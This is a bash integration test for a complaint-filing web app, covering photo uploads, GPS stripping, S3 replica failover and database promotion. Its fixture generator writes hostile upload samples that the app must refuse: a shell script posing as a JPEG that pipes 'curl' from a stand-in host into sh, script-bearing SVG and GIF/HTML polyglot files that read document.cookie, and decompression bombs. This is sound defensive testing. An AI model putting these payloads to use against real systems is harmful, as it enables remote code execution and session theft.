#!/usr/bin/env bash
# complaints.sh: filing a complaint with a photo as a resident's browser does it, on a full stack
# of its own (MariaDB primary + standby, three S3 replicas us/jp/de, upload_max_bytes=256K) —
# each bad filing refused with its 4xx leaving no row and no object on any replica; a good one
# redirected to its page, its photo stored without GPS on at least two replicas under its
# sha256 and served with ETag and Cache-Control private, no-cache (304 on revalidation); the form kept on an
# error; one submit token posted twice at once making one complaint; filing and viewing with one
# S3 replica stopped (and with the photo missing on the first replica asked), the repair queue
# and its timer; another resident's complaint and photo 404; and, last because it breaks the
# stack, the primary killed during a burst of filings and the standby promoted: every filing
# answered with a redirect exists once afterwards.
# (The photo fixtures through exiftool/djpeg/pngcheck/dwebp are photo_tools.sh's.)
# The checks' predicates are single-quoted and evaluated when the check runs (holds):
# shellcheck disable=SC2016,SC2034,SC2001
# shellcheck source=test/integration/lib.sh
source "$(dirname "$0")/lib.sh"
plan 34
stackctl="$top/packaging/stackctl"
complaintctl=${COMPLAINTCTL_BINARY:-$top/var/build-asan/complaintctl}
[ -x "$complaintctl" ] || { echo "Bail out! no complaintctl at $complaintctl (set COMPLAINTCTL_BINARY)"; exit 1; }
for tool in exiftool python3; do
	command -v "$tool" >/dev/null || { echo "Bail out! $tool is not installed"; exit 1; }
done
scratch=$(mktemp -d)
background=()
cleanup() {
	local pid
	for pid in "${background[@]}"; do kill "$pid" 2>/dev/null; done
	test_stack_cleanup
	rm -rf "$scratch"
}
trap cleanup EXIT
upload_max=$((256 * 1024))
test_full_stack_up complaints upload_max_bytes=256K
test_migrate
dir=$stack_dir
base=$stack_base

sql() { "$stackctl" sql "$dir" "$@"; }
rows() { sql primary app "SELECT COUNT(*) FROM complaints"; }
sha256_of() { sha256sum "$1" | cut -d' ' -f1; }
# The complaintd log lines written since the mark (log_mark), for diagnostics.
log_mark() { log_lines=$(wc -l <"$dir/complaintd.log"); }
log_since() { tail -n +$((log_lines + 1)) "$dir/complaintd.log" | grep -v ' debug ' | tail -n "${1:-6}"; }

# ---- the photos: fixtures, and refused ones crafted here ----
fixture="$top/test/data/photos/jpeg_gps_exif_xmp_iptc.jpg"
[ -f "$fixture" ] || { echo "Bail out! no fixture $fixture"; exit 1; }
python3 - "$scratch" "$fixture" "$upload_max" <<'EOF' || { echo "Bail out! the crafted photos could not be made"; exit 1; }
import os, struct, sys, zlib
out, fixture, limit = sys.argv[1], sys.argv[2], int(sys.argv[3])

def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)

def png(width, height, raw=None):
    if raw is None:   # noise: it does not compress, so the file size follows the pixel count
        raw = b''.join(b'\0' + os.urandom(width * 3) for _ in range(height))
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b''))

def write(name, data):
    with open(os.path.join(out, name), 'wb') as f:
        f.write(data)

def noise_png_over(size):   # the first noise PNG 256 pixels wide longer than size bytes
    height = size // 769 + 1
    while True:
        data = png(256, height)
        if len(data) > size:
            return data
        height += 1

for i in range(1, 8):   # small valid photos, each new to the replicas
    write('fresh-%d.png' % i, png(24, 24))
write('over.png', noise_png_over(limit + 1024))                       # just over upload_max_bytes
write('over-app.png', noise_png_over(limit + 64 * 1024 + 600 * 1024))    # far over, under nginx's cap
write('over-nginx.png', noise_png_over(limit + 1024 * 1024 + 700 * 1024))     # over nginx's cap
# A decompression bomb: a tiny PNG whose header says 60000 x 60000 (10.8 GB of RGB).
write('bomb.png', png(60000, 60000, b'\0' * (1 + 60000 * 3) * 8))
jpeg = open(fixture, 'rb').read()
# The same, in JPEG: the fixture with its frame header (SOFn) saying 60000 x 60000.
bomb, pos, sos = bytearray(jpeg), 2, None
while pos + 4 <= len(bomb):
    marker, length = bomb[pos + 1], struct.unpack('>H', bomb[pos + 2:pos + 4])[0]
    if marker in (0xC0, 0xC1, 0xC2):
        bomb[pos + 5:pos + 9] = struct.pack('>HH', 60000, 60000)
    if marker == 0xDA:
        sos = pos
        break
    pos += 2 + length
assert sos is not None
write('bomb.jpg', bytes(bomb))
# Truncated in the middle of its scan: no end of image.
write('truncated.jpg', jpeg[:sos + (len(jpeg) - sos) // 2])
write('script.jpg', b'#!/bin/sh\ncurl -s http://evil.example/x | sh\n')
write('image.svg', b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
      b'<script>alert(document.cookie)</script><rect width="64" height="64"/></svg>\n')
# GIF89a header (its width/height bytes open a JS comment), then HTML with a script.
write('polyglot.gif', b'GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=1;\n'
      b'<html><body><script>alert(document.cookie)</script></body></html>\n'
      b'\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b')
EOF
diag "crafted: over.png $(stat -c %s "$scratch/over.png") B, over-app.png $(stat -c %s "$scratch/over-app.png") B, over-nginx.png $(stat -c %s "$scratch/over-nginx.png") B (limit $upload_max B), bomb.png $(stat -c %s "$scratch/bomb.png") B, bomb.jpg $(stat -c %s "$scratch/bomb.jpg") B"

# ---- the S3 replicas' objects, read from each replica's data directory (s3rver keeps one
# <key>._S3rver_object file per object), so a stopped replica counts too ----
replicas=(us jp de)
objects_on() { find "$dir/s3/$1/$S3_BUCKET" -type f -name '*._S3rver_object' 2>/dev/null | wc -l; }
objects() { local name; for name in "${replicas[@]}"; do printf '%s=%s ' "$name" "$(objects_on "$name")"; done; }
# replicas_with KEY: the replicas holding the object KEY, space-separated.
replicas_with() { local name; for name in "${replicas[@]}"; do [ -f "$(s3_object_file "$name" "$1")" ] && printf '%s ' "$name"; done; }
# s3 NAME CURL-ARGS... PATH: a signed request to replica NAME's bucket (doc/stack-s3-mail.md).
s3() {
	local name=$1; shift
	local path=${*: -1}
	curl -sS --aws-sigv4 aws:amz:us-east-1:s3 -H 'x-amz-content-sha256: UNSIGNED-PAYLOAD' \
		--user "$(stack_secret_get "$dir" s3_access_key):$(stack_secret_get "$dir" s3_secret_key)" \
		"${@:1:$#-1}" "$(s3_url "$dir" "$base" "$name")/$path"
}
# no_gps FILE: exiftool reads FILE as an image and finds no GPS tag, in any group.
no_gps() {
	local tags
	tags=$(exiftool -a -G1 -s "$1" 2>&1) || { diag "exiftool $1: $tags"; return 1; }
	grep -q '^\[File\] *FileType *: *\(JPEG\|PNG\|WEBP\)' <<<"$tags" || { diag "exiftool does not see an image in $1"; return 1; }
	# (Not the [System] lines: they name the file and its directory, which may spell "gps".)
	tags=$(grep -v '^\[System\]' <<<"$tags")
	! grep -qi 'gps' <<<"$tags" || { diag "GPS in $1:" "$(grep -i gps <<<"$tags")"; return 1; }
}

# ---- a browser: one cookie jar per name ----
# fetch and get: lib.sh.
header_of() { grep -i "^$1:" <<<"$headers" | tail -n 1 | sed 's/^[^:]*: *//'; }
# input_value HTML NAME: the value of the (last) input named NAME.
input_value() {
	grep -o "<input[^>]*name=\"$2\"[^>]*>" <<<"${1//</$'\n'<}" | tail -n 1 | sed -n 's/.*value="\([^"]*\)".*/\1/p'
}

password=Corr3ct-horse-battery
# signup: lib.sh's (sign-up, sign-in, the confirmation mail's link).
# new_form BROWSER: GET /complaints/new; sets form_csrf (the complaint form's: the page's last
# csrf input, the header's sign-out form has the first) and form_token.
new_form() {
	get "$1" /complaints/new
	form_csrf=$(input_value "$body" csrf)
	form_token=$(input_value "$body" submit_token)
	if [ "$status" != 200 ] || [ -z "$form_csrf" ] || [ ${#form_token} != 43 ]; then
		echo "Bail out! GET /complaints/new: $status, csrf '$form_csrf', submit_token '$form_token'"
		exit 1
	fi
}
# post_complaint BROWSER PHOTO [FIELD=VALUE | FIELD!]...: POST /complaints as the form sends it
# (multipart, the site's Origin), with the last form's csrf and submit_token, category water_leak,
# a description, an address, and PHOTO (a curl -F file spec, "-" for none). FIELD=VALUE sets a
# field, FIELD! leaves it out. Sets typed_description, and what fetch sets.
post_complaint() {
	local browser=$1 photo=$2 arg key; shift 2
	local -A fields=([category]=water_leak [description]="Water runs down Mill Lane from a broken pipe"
		[address]="12 Mill Lane" [csrf]=$form_csrf [submit_token]=$form_token)
	local args=(-H "Origin: $url")
	for arg in "$@"; do
		case $arg in
		*!) unset "fields[${arg%!}]" ;;
		*=*) fields[${arg%%=*}]=${arg#*=} ;;
		esac
	done
	typed_description=${fields[description]:-}
	for key in "${!fields[@]}"; do args+=(--form-string "$key=${fields[$key]}"); done
	[ "$photo" = - ] || args+=(-F "photo=@$photo")
	fetch "$browser" POST /complaints "${args[@]}"
}
complaint_id() { [[ $1 =~ ^/complaints/([0-9]+)$ ]] && echo "${BASH_REMATCH[1]}"; }

ann_email="ann.$$@example.org"
signup ann "Ann Resident" "$ann_email"
signup bob "Bob Neighbour" "bob.$$@example.org"
ann_id=$(sql primary app "SELECT id FROM accounts WHERE email = '$ann_email'")

# ---- Each bad filing: its 4xx, no row, no object on any replica ----
# refused LABEL STATUS WHO PHOTO [FIELD=VALUE | FIELD!]...: a fresh form, the filing; WHO is
# "form" when the app answers with the form again (a message by a field, the typed description
# kept) or "page" when the body is refused before the app reads it (an error page).
refused() {
	local label=$1 expected=$2 who=$3 photo=$4; shift 4
	local rows_before objects_before rows_after objects_after form_back=yes
	new_form ann
	rows_before=$(rows) objects_before=$(objects)
	log_mark
	post_complaint ann "$photo" "description=Case $label: water runs down the lane" "$@"
	rows_after=$(rows) objects_after=$(objects)
	if [ "$who" = form ]; then
		grep -q 'class="field-error"' <<<"$body" && grep -qF "$typed_description" <<<"$body" &&
			grep -q 'action="/complaints"' <<<"$body" || form_back=no
	fi
	if [ "$status" = "$expected" ] && [ "$rows_before" = "$rows_after" ] && [ "$objects_before" = "$objects_after" ] &&
		[ $form_back = yes ]; then
		ok "$label: $expected, no complaint row, no object on any replica"
	else
		not_ok "$label: $expected, no complaint row, no object on any replica"
		diag "status $status (expected $expected), rows $rows_before -> $rows_after, objects $objects_before-> $objects_after, form back with the typed description and a field message: $form_back" \
			"page: $(text_of "$body")" "complaintd.log:" "$(log_since)"
	fi
	refused_body=$body
}
fresh="$scratch/fresh-1.png;filename=drain.png;type=image/png"
refused "no category" 422 form "$fresh" category!
refused "a 9-character description" 422 form "$fresh" "description=Pipe leak"
refused "no address and no latitude/longitude" 422 form "$fresh" address!
refused "no photo" 422 form -
refused "latitude 91" 422 form "$fresh" lat=91 lon=4.35
lat91_body=$refused_body
# kept_as_typed BODY DESCRIPTION ADDRESS LAT LON ERROR_ID: the form came back as typed (water_leak
# selected, the description, address, latitude and longitude) with a message by ERROR_ID's field.
kept_as_typed() {
	if ! {
		grep -q '<option value="water_leak" selected>' <<<"$1" &&
		grep -qF ">$2</textarea>" <<<"$1" &&
		[ "$(input_value "$1" address)/$(input_value "$1" lat)/$(input_value "$1" lon)" = "$3/$4/$5" ] &&
		grep -q "class=\"field-error\" id=\"$6\"" <<<"$1"
	}; then
		diag "the page: $(text_of "$1" 600)"
		return 1
	fi
}
check "on an error the form comes back with what was typed (category selected, description, address, lat 91, lon) and a message by the location" \
	kept_as_typed "$lat91_body" "Case latitude 91: water runs down the lane" "12 Mill Lane" 91 4.35 location-error

# Photos refused by their size: just over upload_max_bytes, and far over it (but under nginx's
# cap, upload_max_bytes + 1 MiB): the app reads the body as a stream, drops the photo's bytes as
# they come and answers 413 with the form, everything typed and the limit said. Over nginx's cap,
# nginx answers itself (413, its own static page).
refused "a photo just over upload_max_bytes (256 KiB + 1 KiB)" 413 form "$scratch/over.png;filename=big.png;type=image/png"
refused "a photo 664 KiB over upload_max_bytes, under the nginx cap" 413 form "$scratch/over-app.png;filename=bigger.png;type=image/png" \
	lat=50.846600 lon=4.352800 "address=Rue de l'Étuve 31 <Manneken Pis>"
over_app_body=$refused_body
check "a photo far over the limit: the form comes back with everything typed and the photo's field says the limit (256 KB)" holds '
	kept_as_typed "$over_app_body" "Case a photo 664 KiB over upload_max_bytes, under the nginx cap: water runs down the lane" \
		"Rue de l&#39;Étuve 31 &lt;Manneken Pis&gt;" 50.846600 4.352800 photo-error &&
	grep -q "This photo is larger than 256 KB, the largest accepted" <<<"$over_app_body"'
refused "a photo far over the limit (about 2 MiB)" 413 page "$scratch/over-nginx.png;filename=huge.png;type=image/png"
diag "413 page over nginx's cap: '$(text_of "$body" 120)'"
refused "a shell script renamed .jpg (sent as image/jpeg)" 415 form "$scratch/script.jpg;filename=photo.jpg;type=image/jpeg"
refused "an SVG with a script" 415 form "$scratch/image.svg;filename=drawing.svg;type=image/svg+xml"
refused "a GIF/HTML polyglot named .png" 415 form "$scratch/polyglot.gif;filename=photo.png;type=image/png"
refused "a decompression bomb: a tiny PNG whose header says 60000 x 60000" 413 form "$scratch/bomb.png;filename=bomb.png;type=image/png"
refused "a decompression bomb: a JPEG whose frame header says 60000 x 60000" 413 form "$scratch/bomb.jpg;filename=bomb.jpg;type=image/jpeg"
refused "a JPEG truncated in its scan data" 400 form "$scratch/truncated.jpg;filename=cut.jpg;type=image/jpeg"

# ---- A good filing ----
exiftool -a -G1 -s "$fixture" | grep -qi gps || diag "the fixture $fixture carries no GPS: the GPS checks below prove less"
new_form ann
rows_before=$(rows)
log_mark
post_complaint ann "$fixture;filename=IMG_0001.jpg;type=image/jpeg" "description=Street lamp out at the corner of Mill Lane" \
	category=streetlight lat=50.846600 lon=4.352800
good_answer="$status $location"
good_id=$(complaint_id "$location")
good_key=$(sql primary app "SELECT image_key FROM complaints WHERE id = '${good_id:-0}' AND reporter_id = $ann_id")
[ -n "$good_key" ] || diag "the filing: $good_answer, no row for it: $(text_of "$body")" "$(log_since)"
check "a good filing: 303 to /complaints/{id} ($good_answer), one new row of this resident with a sha256 image_key" holds '
	[ -n "$good_id" ] && [ "$status" = 303 ] && [ $(($(rows) - rows_before)) = 1 ] && [[ $good_key =~ ^[0-9a-f]{64}$ ]]'
stored_clean() {
	local name with count=0
	with=$(replicas_with "$good_key")
	for name in $with; do
		[ "$(sha256_of "$(s3_object_file "$name" "$good_key")")" = "$good_key" ] || { diag "$name's copy is not sha256 $good_key"; return 1; }
		no_gps "$(s3_object_file "$name" "$good_key")" || return 1
		count=$((count + 1))
	done
	[ "$count" -ge 2 ] || { diag "the object is on: ${with:-no replica}"; return 1; }
}
check "the stored photo is on at least 2 replicas, each copy's sha256 is image_key and exiftool finds no GPS in it" stored_clean
get ann "/complaints/$good_id/photo"
cp "$scratch/body" "$scratch/served.jpg"
photo_status=$status photo_type=$(header_of content-type) photo_etag=$(header_of etag) photo_cache=$(header_of cache-control)
diag "photo: $photo_status, Content-Type: $photo_type, ETag: $photo_etag, Cache-Control: $photo_cache"
check "the photo is served: 200 image/jpeg, sha256 = image_key, no GPS by exiftool" holds '
	[ "$photo_status/$photo_type" = 200/image/jpeg ] && [ "$(sha256_of "$scratch/served.jpg")" = "$good_key" ] && no_gps "$scratch/served.jpg"'
check "with ETag \"image_key\" and Cache-Control \"private, no-cache\": kept only until the browser revalidates" holds '
	[ "$photo_etag" = "\"$good_key\"" ] && [ "$photo_cache" = "private, no-cache" ]'
get ann "/complaints/$good_id/photo" -H "If-None-Match: $photo_etag"
check "If-None-Match with the ETag: 304, no body ($status, $(stat -c %s "$scratch/body") bytes)" \
	holds '[ "$status" = 304 ] && [ ! -s "$scratch/body" ]'
get ann "/complaints/$good_id"
page_status=$status page=$body
get ann /complaints
shown_to_reporter() {
	if ! { [ "$page_status/$status" = 200/200 ] && grep -q "<h1>[^<]* · #$good_id</h1>" <<<"$page" &&
		grep -A3 '<ol class="timeline"' <<<"$page" | grep -q Submitted &&
		grep -q "<img class=\"complaint-photo\" src=\"/complaints/$good_id/photo\"" <<<"$page" &&
		grep -q "href=\"/complaints/$good_id\"" <<<"$body"; }; then
		diag "page: $(text_of "$page" 400)"
		return 1
	fi
}
check "the complaint's page (h1 '<category> · #id', timeline 'Submitted', the photo) and My complaints list it ($page_status, $status)" shown_to_reporter

# ---- One submit token posted twice at once (a double click): one complaint ----
new_form ann
rows_before=$(rows)
double_description="Overflowing bins at the market square, double click $$"
for copy in 1 2; do
	curl -s -o /dev/null -D "$scratch/double-$copy.headers" -w '%{http_code}' -b "$scratch/ann.jar" -H "Origin: $url" \
		--form-string category=garbage --form-string "description=$double_description" --form-string "address=Market Square" \
		--form-string "csrf=$form_csrf" --form-string "submit_token=$form_token" \
		-F "photo=@$scratch/fresh-2.png;filename=bins.png;type=image/png" "$url/complaints" >"$scratch/double-$copy.status" &
	background+=($!)
done
wait
background=()
double_answers=
for copy in 1 2; do
	double_answers+="$(cat "$scratch/double-$copy.status") $(tr -d '\r' <"$scratch/double-$copy.headers" | sed -n 's/^[Ll]ocation: *//p');"
done
double_rows=$(sql primary app "SELECT COUNT(*) FROM complaints WHERE description = '$double_description'")
check "two POSTs of one form at once: both 303 to the same complaint ($double_answers), one row ($double_rows)" holds '
	[[ $double_answers =~ ^"303 /complaints/"([0-9]+)";303 /complaints/"([0-9]+)";"$ ]] &&
	[ "${BASH_REMATCH[1]}" = "${BASH_REMATCH[2]}" ] && [ "$double_rows" = 1 ] && [ $(($(rows) - rows_before)) = 1 ]'

# ---- One S3 replica stopped: filing and viewing work (quorum 2 of 3), the replica queued ----
"$stackctl" stop-s3 "$dir" jp
new_form ann
log_mark
post_complaint ann "$scratch/fresh-3.png;filename=pothole.png;type=image/png" category=road_damage \
	"description=Deep pothole in front of number 40, jp is down" "address=40 Station Road"
jp_answer="$status $location"
jp_id=$(complaint_id "$location")
jp_key=$(sql primary app "SELECT image_key FROM complaints WHERE id = '${jp_id:-0}'")
[ -n "$jp_key" ] || diag "$(text_of "$body")" "$(log_since)"
check "S3 replica jp stopped: filing works, 303 to the complaint ($jp_answer)" holds '[ -n "$jp_key" ]'
jp_repairs=$(sql primary app "SELECT replica FROM photo_repairs WHERE image_key = '$jp_key'" | paste -sd' ')
jp_with=$(replicas_with "$jp_key")
check "the photo is on us and de, and photo_repairs names jp for it (replicas: $jp_with; repairs: ${jp_repairs:-none})" \
	[ "$jp_with/$jp_repairs" = "us de /jp" ]
get ann "/complaints/$jp_id"
jp_page=$status
get ann "/complaints/$jp_id/photo"
check "and viewing works with jp stopped: the page ($jp_page) and the photo ($status, sha256 = image_key)" holds '
	[ "$jp_page/$status" = 200/200 ] && [ "$(sha256_of "$scratch/body")" = "$jp_key" ]'
# Two more while jp is down: one repair pass then has several small photos to copy.
jp_keys=$jp_key
for extra in 5 6; do
	new_form ann
	post_complaint ann "$scratch/fresh-$extra.png;filename=extra.png;type=image/png" \
		"description=Another problem filed while jp is down ($extra)"
	jp_keys+=" $(sql primary app "SELECT image_key FROM complaints WHERE id = '$(complaint_id "$location")'")"
done
"$stackctl" start-s3 "$dir" jp
jp_restarted=$(date +%s)

# The first replica of the get order stopped: the next is asked.
"$stackctl" stop-s3 "$dir" us
get ann "/complaints/$good_id/photo"
us_stopped="$status"
[ "$us_stopped" = 200 ] || diag "$(text_of "$body")" "$(log_since)"
check "S3 replica us (first asked) stopped: the photo is served from the next ($us_stopped, sha256 = image_key)" holds '
	[ "$us_stopped" = 200 ] && [ "$(sha256_of "$scratch/body")" = "$good_key" ]'
"$stackctl" start-s3 "$dir" us
# The object gone from us (running, answering 404 for it): absent there, the next replica asked.
deleted=$(s3 us -X DELETE -o /dev/null -w '%{http_code}' "photos/$good_key")
log_mark
get ann "/complaints/$good_id/photo"
[ "$status" = 200 ] || diag "$(text_of "$body")" "$(log_since)"
# us's log shows it was asked first and answered 404 (absent), so the next one served it.
us_absent=$(grep -c "GET /$S3_BUCKET/photos/$good_key 404" "$dir/s3/us.log")
check "the photo deleted on us (DELETE $deleted; now on: $(replicas_with "$good_key")): us answers 404 ($us_absent), the photo is still served from jp or de ($status)" holds '
	[ "$status" = 200 ] && [ "$(sha256_of "$scratch/body")" = "$good_key" ] && [[ " $(replicas_with "$good_key") " != *" us "* ]] &&
	[ "$us_absent" -ge 1 ]'

# ---- Another resident's complaint: 404, as one that does not exist ----
get bob "/complaints/$good_id"
other_page="$status"
other_leak=no
grep -qF "Street lamp out" <<<"$body" && other_leak=yes
get bob "/complaints/$good_id/photo"
other_photo="$status"
cmp -s "$scratch/body" "$scratch/served.jpg" && other_leak=yes
get bob /complaints
grep -q "href=\"/complaints/$good_id\"" <<<"$body" && other_leak=yes
get ann "/complaints/$good_id"
own_page=$status
check "another resident gets 404 (not 403) for Ann's complaint ($other_page; Ann: $own_page) and its photo ($other_photo), and nothing of it (shown: $other_leak)" \
	[ "${good_id:-none}:$own_page/$other_page/$other_photo/$other_leak" = "$good_id:200/404/404/no" ]
made_up=$(( $(sql primary app "SELECT COALESCE(MAX(id), 0) FROM complaints") + 1000 ))
made_up_answers=
for path in "/complaints/$made_up" "/complaints/$made_up/photo" /complaints/0 /complaints/abc; do
	get ann "$path"
	made_up_answers+="$path=$status "
done
check "made-up ids are 404 for the page and the photo ($made_up_answers)" \
	holds '! tr " " "\n" <<<"$made_up_answers" | grep -v "^$" | grep -qv "=404$"'

# The repair timer copies every photo filed while jp was down to it once it is back, and drops the
# queue rows (several in one pass: each copy must not disturb the next row).
repaired() {
	local key
	[ -n "$jp_key" ] && [ "$(wc -w <<<"$jp_keys")" = 3 ] || return 1
	[ "$(sql primary app "SELECT COUNT(*) FROM photo_repairs WHERE replica = 'jp'")" = 0 ] || return 1
	for key in $jp_keys; do
		[ "$(sha256_of "$(s3_object_file jp "$key")" 2>/dev/null)" = "$key" ] || return 1
	done
}
# Backoff while jp was down: 1, 2, 4... s; 30 s from the restart is ten times the wait expected.
wait_until $((30000 - ($(date +%s) - jp_restarted) * 1000)) repaired ||
	diag "$(grep 's3.repair' "$dir/complaintd.log" | tail -n 5)"
check "jp back: the repair timer copies the 3 photos to it and removes their photo_repairs rows (within 30 s; $(( $(date +%s) - jp_restarted )) s)" repaired
check "and the repair log names only real replicas and keys (nothing dropped, no stray bytes)" \
	holds '! grep "s3.repair" "$dir/complaintd.log" | grep -qvE "s3.repair: (photo [0-9a-f]{12}\.\.\. (copied to|not copied to) (us|jp|de)|every path failed)"' 

# ---- Failover: the primary killed during a burst of filings, the standby promoted ----
# Four residents' browsers (one session, four loops) file one complaint after another; a filing
# answered with anything but a redirect is sent again with the same form (its submit token), as
# a resident would, for up to 30 s. Each answer is recorded; afterwards every filing answered
# with a 303 must exist exactly once on the promoted standby, under the id it was sent to.
burst_loops=4 burst_each=6
new_form ann
burst_csrf=$form_csrf
new_token() { head -c 32 /dev/urandom | base64 -w0 | tr '+/' '-_' | tr -d '='; }
burst_loop() {
	local loop=$1 n token tag answers code location started
	for ((n = 1; n <= burst_each; n++)); do
		token=$(new_token) tag="burst-$$-$loop-$n" answers='' started=$(date +%s)
		while :; do
			code=$(curl -s -o /dev/null -D "$scratch/burst-$loop.headers" -w '%{http_code}' --max-time 20 -b "$scratch/ann.jar" \
				-H "Origin: $url" --form-string category=other --form-string "description=Broken bench in the park ($tag)" \
				--form-string "address=Park Avenue" --form-string "csrf=$burst_csrf" --form-string "submit_token=$token" \
				-F "photo=@$scratch/fresh-4.png;filename=bench.png;type=image/png" "$url/complaints") || code=000
			location=$(tr -d '\r' <"$scratch/burst-$loop.headers" | sed -n 's/^[Ll]ocation: *//p')
			answers+="${answers:+,}$code"
			[ "$code" = 303 ] && break
			[ $(($(date +%s) - started)) -lt 30 ] || break
			sleep 0.3
		done
		# One short line per write with >>: the loops' lines do not interleave.
		echo "$tag $code ${location:--} $(date +%s%N) $answers" >>"$scratch/burst.txt"
	done
}
: >"$scratch/burst.txt"
for ((loop = 1; loop <= burst_loops; loop++)); do
	burst_loop "$loop" &
	background+=($!)
done
# Kill the primary once every loop is under way (a few filings answered).
burst_started() { [ "$(wc -l <"$scratch/burst.txt")" -ge "$burst_loops" ]; }
wait_until 30000 burst_started || diag "the burst did not get going: $(cat "$scratch/burst.txt")"
log_mark
killed_at=$(date +%s%N)
"$stackctl" kill-primary "$dir"
"$stackctl" promote-standby "$dir" || diag "promote-standby failed"
promoted_at=$(date +%s%N)
diag "primary killed after $(wc -l <"$scratch/burst.txt") filings; standby promoted in $(((promoted_at - killed_at) / 1000000)) ms"
wait "${background[@]}"
background=()
diag "burst answers (tag, final status, location, answer sequence):" "$(awk '{print $1, $2, $3, $5}' "$scratch/burst.txt" | sort -V)"
sql standby app "SELECT description, COUNT(*), MIN(id), MAX(id) FROM complaints WHERE description LIKE '%(burst-$$-%' GROUP BY description" \
	>"$scratch/burst.rows" 2>"$scratch/burst.sql-error" || diag "the standby's rows could not be read: $(cat "$scratch/burst.sql-error")"
burst_kept() {
	local tag code location answered_at answers id found=0 bad=
	while read -r tag code location answered_at answers; do
		[ "$code" = 303 ] || continue
		found=$((found + 1))
		id=$(complaint_id "$location")
		grep -qP "^Broken bench in the park \\($tag\\)\\t1\\t${id:-x}\\t${id:-x}$" "$scratch/burst.rows" ||
			bad+=" $tag->$location: $(grep -F "($tag)" "$scratch/burst.rows" | cut -f2- | tr '\t' ' ' || echo 'no row')"
	done <"$scratch/burst.txt"
	if [ "$found" = 0 ] || [ -n "$bad" ]; then
		diag "$found filings answered 303; lost, duplicated or elsewhere:${bad:- none}"
		return 1
	fi
}
check "every filing answered 303 during the failover exists exactly once on the promoted standby, with the id it was sent to ($(grep -c ' 303 ' "$scratch/burst.txt") of $(wc -l <"$scratch/burst.txt") answered 303)" burst_kept
recovered() {
	local after
	after=$(awk -v t="$promoted_at" '$2 == 303 && $4 > t' "$scratch/burst.txt" | wc -l)
	if [ "$after" = 0 ] || awk '$2 != 303' "$scratch/burst.txt" | grep -q .; then
		diag "after the promotion: $after filings answered 303; never answered 303 within 30 s: $(awk '$2 != 303 {print $1, $5}' "$scratch/burst.txt" | paste -sd' ')" \
			"complaintd.log:" "$(log_since 10)"
		return 1
	fi
}
check "filing works again after the promotion: every filing got its 303 within 30 s of retries (resent with its token)" recovered
